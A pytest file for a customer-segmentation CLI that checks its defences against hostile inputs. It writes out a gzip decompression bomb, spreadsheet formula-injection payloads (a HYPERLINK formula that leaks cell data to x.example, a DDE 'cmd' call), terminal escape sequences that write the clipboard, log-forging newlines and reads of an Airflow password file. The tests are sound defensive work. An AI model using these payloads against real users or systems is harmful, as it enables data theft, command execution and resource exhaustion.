"""Hostile input files and names: bombs, giant headers, formulas, escape sequences, secrets."""

from __future__ import annotations

import gzip
import os
import resource
from pathlib import Path

import pandas as pd
import pytest

from custseg.cli import main
from custseg.errors import InputError
from custseg.io import load_customers
from custseg.options import PipelineConfig
from custseg.pipeline import run_pipeline

FAST = ["--k-max", "6", "--n-init", "2", "--select", "elbow", "--no-progress"]
HEADER = "CustomerID,Annual Income (k$),Spending Score (1-100)\n"


def rows(n: int = 40, ids=None) -> str:
    ids = ids or [str(i) for i in range(1, n + 1)]
    return "".join(f"{c},{10 + i % 7 * 9},{5 + i * 37 % 90}\n" for i, c in enumerate(ids))


def run_cli(capsys, *args) -> tuple[int, str, str]:
    rc = main([str(a) for a in args])
    cap = capsys.readouterr()
    return rc, cap.out, cap.err


def test_a_gzip_of_zeros_is_refused_without_inflating_it(tmp_path):
    """1 MB of gzip that inflates to 1 GB of NULs reached 2.2 GB RSS before it was rejected."""
    bomb = tmp_path / "bomb.csv.gz"
    with gzip.open(bomb, "wb", compresslevel=9) as fh:
        chunk = b"\0" * (1 << 20)
        for _ in range(1024):
            fh.write(chunk)
    assert bomb.stat().st_size < 2_000_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(InputError, match="looks binary"):
        load_customers(str(bomb))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # KB


def test_decompressed_bytes_are_capped_as_they_stream(tmp_path, monkeypatch):
    path = tmp_path / "big.csv.gz"
    path.write_bytes(gzip.compress((HEADER + rows(2000)).encode()))
    monkeypatch.setenv("CUSTSEG_MAX_DECOMPRESSED_BYTES", "20000")
    with pytest.raises(InputError, match=r"decompresses to more than 20,000 bytes \(gzip\)"):
        load_customers(str(path))
    monkeypatch.delenv("CUSTSEG_MAX_DECOMPRESSED_BYTES")
    assert load_customers(str(path)).n_rows_read == 2000


def test_a_file_that_is_no_table_is_refused_before_it_is_hashed(tmp_path, monkeypatch):
    """A 5 GB invalid file was hashed whole (15.7 s) before it was found invalid."""
    path = tmp_path / "binary.csv"
    path.write_bytes(b"\x7fELF" + b"\0" * 100_000)

    def no_hash(uri):
        raise AssertionError("hashed before validation")

    monkeypatch.setattr("custseg.io.file_sha256", no_hash)
    with pytest.raises(InputError, match="looks binary"):
        load_customers(str(path))


def test_a_header_over_64_kib_is_read_whole(tmp_path):
    """3,503 columns used to give 'a row has 3503 field(s) but the header has 2732'."""
    extra = [f"extra_column_{i:05d}" for i in range(3500)]
    header = ",".join(["CustomerID", "Annual Income (k$)", "Spending Score (1-100)", *extra])
    assert len(header) > 65536
    fill = ",".join("1" for _ in extra)
    body = "".join(f"{i},{10 + i % 50},{i % 97}," + fill + "\n" for i in range(1, 301))
    path = tmp_path / "wide.csv"
    path.write_text(header + "\n" + body)
    table = load_customers(str(path))
    assert table.n_rows_read == 300 and table.features == (
        "Annual Income (k$)",
        "Spending Score (1-100)",
    )


def test_a_header_line_over_the_limit_says_so(tmp_path):
    """A 200 MB first field said 'no delimiter'; a header over 1 MiB now names the limit."""
    path = tmp_path / "long.csv"
    path.write_bytes(b"CustomerID," + b"x" * (3 << 20) + b"\n1,2\n")
    with pytest.raises(InputError, match=r"line 1 \(the header\) is longer than 1,048,576 bytes"):
        load_customers(str(path))


def test_formula_cells_are_neutralised_in_the_csv_files(tmp_path, capsys):
    """Ids such as =HYPERLINK(...) were written verbatim into predictions.csv (Excel runs
    them); numbers, negative ones too, stay numbers."""
    evil = ['=HYPERLINK("http://x.example/?leak="&A2,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1)", "-5", "\tTAB", "plain"]  # fmt: skip
    ids = evil + [str(i) for i in range(len(evil), 40)]
    train = tmp_path / "train.csv"
    train.write_text(HEADER + rows(ids=[str(i) for i in range(1, 41)]))
    test = tmp_path / "test.csv"
    pd.DataFrame({"CustomerID": ids, "Annual Income (k$)": [10 + i % 7 * 9 for i in range(40)],
                  "Spending Score (1-100)": [5 + i * 37 % 90 for i in range(40)]}).to_csv(
        test, index=False)  # fmt: skip
    rc, _, err = run_cli(capsys, "run", "--input", train, "--test", test, "--out",
                         tmp_path / "out", "--run-id", "r", *FAST)  # fmt: skip
    assert rc == 0, err
    data = (tmp_path / "out" / "runs" / "r" / "predictions.csv").read_bytes()
    lines = data.decode().splitlines()[1:7]
    assert lines[0].startswith('"\'=HYPERLINK(""http://x.example/?leak=""&A2,""click"")"')
    assert lines[1].startswith("'+cmd|' /C calc'!A0,")
    assert lines[2].startswith("'@SUM(1),")
    assert lines[3].startswith("-5,")  # a number stays a number
    assert lines[4].startswith("'\tTAB,") or lines[4].startswith('"\'\tTAB",')
    assert lines[5].startswith("plain,")
    rc, _, err = run_cli(capsys, "predict", "--model", tmp_path / "out", "--input", test,
                         "--out", tmp_path / "p.csv")  # fmt: skip
    assert rc == 0, err
    assert (tmp_path / "p.csv").read_text().splitlines()[3].startswith("'@SUM(1),")


def test_escape_sequences_in_names_never_reach_the_terminal_or_files(tmp_path, capsys):
    """A bracketed header part still matches the feature; `run` and `show` printed it raw
    (OSC 52 writes the clipboard) and profile.csv carried it in its headers."""
    nasty = "Annual Income (\x1b[2J\x1b]52;c;SGVsbG8=\x07)"
    path = tmp_path / "esc.csv"
    path.write_text(f"CustomerID,{nasty},Spending Score (1-100)\n" + rows())
    rc, out, err = run_cli(capsys, "run", "--input", path, "--out", tmp_path / "o",
                           "--features", "Annual Income", "Spending Score", "--run-id", "e",
                           *FAST)  # fmt: skip
    assert rc == 0, err
    assert "\x1b" not in out and "\x07" not in out and "\\x1b[2J" in out
    rc, out, _ = run_cli(capsys, "show", "--out", tmp_path / "o")
    assert rc == 0 and "\x1b" not in out
    profile = (tmp_path / "o" / "runs" / "e" / "profile.csv").read_bytes()
    assert b"\x1b" not in profile and b"\x07" not in profile
    log = (tmp_path / "o" / "custseg.log").read_text()
    assert "\x1b" not in log


def test_a_newline_in_a_path_cannot_forge_log_lines(tmp_path, capsys, caplog):
    bad = str(tmp_path / "x.csv\nINFO custseg: promoted run evil")
    rc, _, err = run_cli(capsys, "run", "--input", bad, "--out", tmp_path / "o", *FAST)
    assert rc == 2
    assert err.count("\n") == 1 and "x.csv\\x0aINFO custseg" in err


def test_secrets_under_airflow_home_and_dot_directories_are_refused(tmp_path, monkeypatch):
    """With the project directory as an allowed root, a trigger could read
    .airflow/simple_auth_manager_passwords.json.generated; its content was then printed as
    'columns' in the task log."""
    from custseg.orchestration import allowed_roots, confine_path

    home = tmp_path / "proj"
    secret = home / ".airflow" / "simple_auth_manager_passwords.json.generated"
    secret.parent.mkdir(parents=True)
    secret.write_text('{"admin": "s3cr3t-passw0rd", "alice": "x"}')
    monkeypatch.setenv("CUSTSEG_ALLOWED_ROOTS", str(home))
    monkeypatch.setenv("AIRFLOW_HOME", str(home / ".airflow"))
    roots = allowed_roots(home)
    with pytest.raises(InputError, match="lies in AIRFLOW_HOME") as err:
        confine_path(".airflow/simple_auth_manager_passwords.json.generated", roots=roots,
                     home=home, what="input_path")  # fmt: skip
    assert "s3cr3t" not in str(err.value)
    monkeypatch.setenv("AIRFLOW_HOME", str(tmp_path / "elsewhere"))
    with pytest.raises(InputError, match="hidden directory '.airflow'"):
        confine_path(str(secret), roots=roots, home=home, what="input_path")
    # a root that names a folder inside AIRFLOW_HOME explicitly is honoured
    monkeypatch.setenv("AIRFLOW_HOME", str(home))
    (home / "data").mkdir()
    monkeypatch.setenv("CUSTSEG_ALLOWED_ROOTS", str(home / "data"))
    assert confine_path("data/in.csv", roots=allowed_roots(home), home=home, what="i").endswith(
        "proj/data/in.csv"
    )


def test_error_messages_quote_no_content_of_a_file_that_is_no_table(tmp_path):
    """The password file's content was printed as 'columns' in the task log."""
    path = tmp_path / "secret.csv"
    path.write_text('{"admin": "pw1"}\n1\n')
    with pytest.raises(InputError) as err:
        load_customers(str(path))
    assert "pw1" not in str(err.value) and "admin" not in str(err.value)
    wide = tmp_path / "wide.csv"
    wide.write_text(",".join(f"column_{'x' * 60}_{i}" for i in range(40)) + "\n" +
                    ",".join("1" for _ in range(40)) + "\n")  # fmt: skip
    with pytest.raises(InputError) as err:
        load_customers(str(wide))
    assert "and 28 more" in str(err.value) and "x" * 40 not in str(err.value)


def test_an_artifacts_root_that_is_a_file_or_has_a_nul_fails_at_once(tmp_path, capsys):
    """Both were retried 3 times (about 30 s) in Airflow."""
    from custseg.rundir import ArtifactStore

    afile = tmp_path / "afile"
    afile.write_text("x")
    with pytest.raises(InputError, match="is a file, not a directory"):
        ArtifactStore(afile)
    with pytest.raises(InputError, match="NUL byte"):
        ArtifactStore(str(tmp_path / "a\x00b"))


def test_metrics_and_latest_follow_the_umask(tmp_path, sample_csv):
    """latest.json and metrics.json were 0600 whatever the umask, other artifacts 0644."""
    old = os.umask(0o022)
    try:
        summary = run_pipeline(PipelineConfig(k_max=6, n_init=2, select="elbow"),
                               input_path=str(sample_csv), out=str(tmp_path / "o"))  # fmt: skip
    finally:
        os.umask(old)
    run_dir = Path(summary["run_dir"])
    modes = {p.name: p.stat().st_mode & 0o777 for p in run_dir.iterdir() if p.is_file()}
    modes["latest.json"] = (tmp_path / "o" / "latest.json").stat().st_mode & 0o777
    assert set(modes.values()) == {0o644}, modes


def test_a_full_disk_is_one_line(tmp_path, capsys, monkeypatch, sample_csv):
    """ENOSPC exited 1 with 58 lines of '--- Logging error ---' tracebacks."""
    import errno

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(tmp_path / "o" / "x"))

    monkeypatch.setattr("custseg.rundir.RunDir.save_metrics", full)
    rc, _, err = run_cli(capsys, "run", "--input", sample_csv, "--out", tmp_path / "o", *FAST)
    assert rc == 1 and "Traceback" not in err and "Logging error" not in err
    assert [ln for ln in err.splitlines() if ln.startswith("custseg:")] == [
        f"custseg: error: No space left on device writing {tmp_path / 'o' / 'x'}: free space "
        "there or pass another --out"
    ]


def test_gc_removes_only_old_incomplete_runs(tmp_path, capsys, sample_csv):
    out = tmp_path / "o"
    run_pipeline(PipelineConfig(k_max=6, n_init=2, select="elbow"), input_path=str(sample_csv),
                 out=str(out), run_id="good")  # fmt: skip
    for name in ("killed", "fresh"):
        (out / "runs" / name / "work").mkdir(parents=True)
        (out / "runs" / name / "work" / "run.json").write_text("{}")
    old = 10 * 86400
    for p in [out / "runs" / "killed", *(out / "runs" / "killed").rglob("*")]:
        st = p.stat()
        os.utime(p, (st.st_atime - old, st.st_mtime - old))
    rc, stdout, _ = run_cli(capsys, "gc", "--out", out, "--dry-run")
    assert rc == 0 and "would remove 1 incomplete run(s)" in stdout and "killed" in stdout
    assert (out / "runs" / "killed").exists()
    rc, stdout, _ = run_cli(capsys, "gc", "--out", out)
    assert rc == 0 and "removed 1 incomplete run(s)" in stdout
    assert sorted(p.name for p in (out / "runs").iterdir()) == ["fresh", "good"]
    rc, stdout, _ = run_cli(capsys, "runs", "--out", out)
    assert rc == 0
    assert [ln.split()[-1] for ln in stdout.splitlines()[1:]] == ["promoted", "incomplete"]


@pytest.mark.parametrize("dtype", [object, "string", "str"])
def test_spreadsheet_safe_skips_only_cells_of_letters_and_digits(dtype):
    """Cells of letters and digits alone are passed over without the slower tests; every
    other cell is exactly `safe_cell` of it, whatever the column's string type."""
    from custseg.sanitize import safe_cell, spreadsheet_safe

    odd = ["=1+2", "+cmd", "-5", "-x", "@SUM(1)", "\tTAB", "a\x1bb", "名字1", "", "a b",
           "C-0001", "Ab12", None]  # fmt: skip
    cells = [f"C{i:05d}" for i in range(2000)] + odd + ["x", "=y"] * 50
    frame = pd.DataFrame({"id": pd.Series(cells, dtype=dtype), "segment": range(len(cells))})
    out = spreadsheet_safe(frame)
    got = out["id"].tolist()
    expected = [safe_cell(c) if isinstance(c, str) else c for c in cells]
    assert [g if isinstance(g, str) else None for g in got] == [
        e if isinstance(e, str) else None for e in expected]  # fmt: skip
    assert got[2000:2008] == ["'=1+2", "'+cmd", "-5", "'-x", "'@SUM(1)", "'\tTAB", "a\\x1bb",
                              "名字1"]  # fmt: skip
    assert out["segment"].tolist() == list(range(len(cells)))
    clean = pd.DataFrame({"id": pd.Series(cells[:2000], dtype=dtype)})
    assert spreadsheet_safe(clean)["id"].tolist() == cells[:2000]
